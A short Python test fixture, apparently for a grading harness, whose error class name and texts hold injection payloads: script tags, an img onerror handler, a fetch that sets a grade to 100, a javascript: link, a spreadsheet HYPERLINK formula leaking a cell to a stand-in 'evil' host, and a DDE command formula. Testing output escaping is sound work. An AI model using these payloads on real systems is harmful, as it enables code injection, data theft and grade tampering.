"""Error texts and type names with HTML, scripts, Markdown and formulas. | Shown as text only.

points: 0
"""

Page = type("<script>alert(1)</script>", (Exception,), {"__module__": "<img src=x onerror=a()>"})
TEXTS = ["</pre><script>fetch('/grades?set=100')</script>", "[x](javascript:alert(3))"]
TEXTS += ['=HYPERLINK("http://evil/?"&A1,"ok")', "+cmd|' /C calc'!A0", "[bold red]PASS[/]"]


def area(width, height):
    raise Page(TEXTS[len(width) % 5])
